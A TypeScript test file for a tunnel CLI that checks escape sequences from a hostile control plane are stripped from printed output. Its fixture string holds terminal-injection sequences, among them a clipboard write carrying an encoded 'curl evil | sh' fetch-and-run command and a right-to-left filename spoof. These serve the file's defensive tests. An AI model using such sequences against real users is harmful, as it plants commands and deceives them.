import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { once, type EventEmitter } from 'node:events';
import { MockAgent } from 'undici';
import { run } from './run.js';
import { EXIT } from './errors.js';
import { testContext } from './testing/test-context.js';
import { writeCredentials } from './settings.js';

/**
 * A hostile (or compromised) control plane puts terminal escape sequences in fields the CLI prints:
 * OSC 0 retitles the window, OSC 52 writes the clipboard, CSI moves the cursor and erases what the
 * user just read. Nothing the server chose may reach the user's terminal as a control character.
 */
const SERVER = 'https://control.test';
const ESC = '\u001b';
// Then a right-to-left override and an isolate, which make the rest of the line read backwards.
const HOSTILE = `${ESC}]0;pwned\u0007${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\u0007${ESC}[2J\rroot\u009b31m\u007f\u202egnp.exe\u2066`;
// eslint-disable-next-line no-control-regex -- control characters are what must not reach the terminal
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
const json = { headers: { 'content-type': 'application/json' } };

function mock(): MockAgent {
  const agent = new MockAgent();
  agent.disableNetConnect();
  return agent;
}

function loggedIn(agent: MockAgent) {
  const ctx = testContext({ dispatcher: agent });
  writeCredentials(ctx, { server: SERVER, user: 'bob', access_token: 'at', access_expires_at: Date.now() + 600_000, refresh_token: 'rt' });
  return ctx;
}

const node = {
  id: 'nod_1',
  name: 'relay-1',
  address: 'relay.test:2222',
  host_key: 'ssh-ed25519 AAAA',
  online: true,
  last_seen_at: null,
  enrolled_at: '2026-01-01T00:00:00.000Z',
  active_exposures: 0,
  egress_driver: null,
  native_crypto: null,
  version: HOSTILE,
};

describe('control characters a control plane sends never reach the terminal', () => {
  it('tunnel whoami, text and --json: a service token scope with escape sequences', async () => {
    for (const argv of [['whoami'], ['whoami', '--json']]) {
      const agent = mock();
      agent.get(SERVER).intercept({ path: '/v1/me', method: 'GET' }).reply(200, JSON.stringify({ id: 'usr_1', name: 'bob', role: 'member', scopes: [HOSTILE] }), json);
      const ctx = loggedIn(agent);
      assert.equal(await run(argv, ctx), 0, ctx.err());
      assert.doesNotMatch(ctx.out(), CONTROL, argv.join(' '));
      assert.match(ctx.out(), /pwned/);
      if (argv.includes('--json')) assert.deepEqual((JSON.parse(ctx.out()) as { scopes: string[] }).scopes, [HOSTILE], 'the JSON value is kept, escaped');
    }
  });

  it('tunnel nodes (a table) and --json: a relay version with escape sequences', async () => {
    for (const argv of [['nodes'], ['nodes', '--json']]) {
      const agent = mock();
      agent.get(SERVER).intercept({ path: '/v1/nodes', method: 'GET' }).reply(200, JSON.stringify({ nodes: [node] }), json);
      const ctx = loggedIn(agent);
      assert.equal(await run(argv, ctx), 0, ctx.err());
      assert.doesNotMatch(ctx.out(), CONTROL, argv.join(' '));
      assert.match(ctx.out(), /relay-1/);
    }
  });

  it('tunnel login (device flow): the verification URI and user code the control plane chose', async () => {
    const agent = mock();
    agent
      .get(SERVER)
      .intercept({ path: '/v1/auth/device', method: 'POST' })
      .reply(
        200,
        JSON.stringify({ device_code: 'dc', user_code: `ABCD${HOSTILE}`, verification_uri: `${SERVER}/device${HOSTILE}`, verification_uri_complete: `${SERVER}/device?c=${HOSTILE}`, expires_in: 600, interval: 5 }),
        json,
      );
    const ctx = testContext({ dispatcher: agent });
    const done = run(['login', '--server', SERVER], ctx);
    // The stop once it waits for approval (the lines are printed by then).
    while (!ctx.err().includes('Waiting for approval')) await once(ctx.stderr as unknown as EventEmitter, 'data');
    ctx.abort();
    assert.equal(await done, EXIT.STOPPED);
    assert.doesNotMatch(ctx.err(), CONTROL);
    assert.match(ctx.err(), /enter the code ABCD/);
  });
});
